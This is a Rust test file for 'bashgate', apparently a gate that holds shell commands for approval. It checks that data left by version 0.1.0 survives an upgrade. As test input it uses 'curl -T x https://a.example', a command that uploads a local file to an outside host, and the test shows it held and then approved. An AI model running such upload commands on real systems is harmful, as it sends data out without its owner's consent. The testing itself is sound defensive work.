//! What version 0.1.0 has left behind is gone on with: its configuration, its store, hooks that are still in containers.
//!
//! The files in `upgrade/` were written by that version, but for the keys, which are made here.

use bashgate_shared::protocol::Answer;
use bashgate_tests::{Site, repository, until};

fn old(name: &str) -> String {
    std::fs::read_to_string(repository().join("tests/system/upgrade").join(name)).unwrap()
}

/// A gate as version 0.1.0 left it when it was killed with a command held.
fn left_behind() -> Site {
    let site = Site::default();
    let ours = std::fs::read_to_string(site.hook_toml()).unwrap();
    let key = ours.lines().find_map(|line| line.strip_prefix("public_key = \"")?.strip_suffix('"')).unwrap();
    std::fs::write(site.hook_toml(), old("hook.toml").replace("KEY", key)).unwrap();
    std::fs::write(site.host_toml(), old("bashgate.toml")).unwrap();
    for end in ["", "-wal", "-shm"] {
        let _ = std::fs::remove_file(site.path().join(format!("state/bashgate.db{end}")));
    }
    let store = rusqlite::Connection::open(site.path().join("state/bashgate.db")).unwrap();
    store.execute_batch(&old("store.sql")).unwrap();
    site
}

#[test]
fn configuration_and_store_of_the_first_version_are_gone_on_with() {
    let site = left_behind();
    site.cli(["config", "check"]).expect(0);
    let host = site.serve();
    // What was seen is known, what was decided is on record, and the chain goes on.
    assert_eq!(site.taint("default"), "both");
    let workspaces = site.cli(["workspace", "list"]).expect(0).stdout;
    assert!(workspaces.contains("default") && workspaces.contains("second"), "{workspaces}");
    site.cli(["audit", "verify"]).expect(0);
    let before = site.audit();
    assert_eq!(before[0]["detail"]["version"], "0.1.0");
    assert!(before.iter().any(|record| record["detail"]["command"] == "curl -T x https://a.example"), "{before:?}");
    // What was held then waits for nobody any more; whoever still wants it asks again.
    assert_eq!(site.pending().len(), 0);
    let running = site.check_later("curl -T x https://a.example");
    let id = site.held("curl -T x https://a.example");
    site.cli(["approve", &id]).expect(0);
    running.join().unwrap().expect(0);
    site.check("ls").expect(0);
    site.cli(["audit", "verify"]).expect(0);
    assert!(site.audit().len() > before.len());
    // And again, as for any restart.
    drop(host);
    let _host = site.serve();
    assert_eq!(site.taint("default"), "both");
    site.cli(["audit", "verify"]).expect(0);
}

#[test]
fn a_hook_of_the_first_version_is_answered() {
    let site = left_behind();
    let _host = site.serve();
    let id = "728ea61d-f715-47a9-a313-e922640bb364";
    let request = old("request.json").replace("ID", id).replace("\"locked\":true", "\"locked\":false");
    site.post_bytes("default", id, request.trim_end().as_bytes());
    let card = until("a card", || site.pending().first().cloned());
    assert_eq!(card["command"], "git push origin main");
    site.cli(["deny", card["id"].as_str().unwrap()]).expect(0);
    let response = until("an answer", || site.response("default", id));
    assert_eq!(response.decision, Answer::Deny, "{response:?}");
}

/// What a newer version has written is left as it is.
#[test]
fn a_store_of_a_newer_version_is_refused() {
    let site = left_behind();
    let store = rusqlite::Connection::open(site.path().join("state/bashgate.db")).unwrap();
    store.pragma_update(None, "user_version", 99).unwrap();
    drop(store);
    let refused = site.cli(["audit", "verify"]);
    assert!(refused.code != Some(0) && refused.stderr.contains("version 99"), "{refused:?}");
}
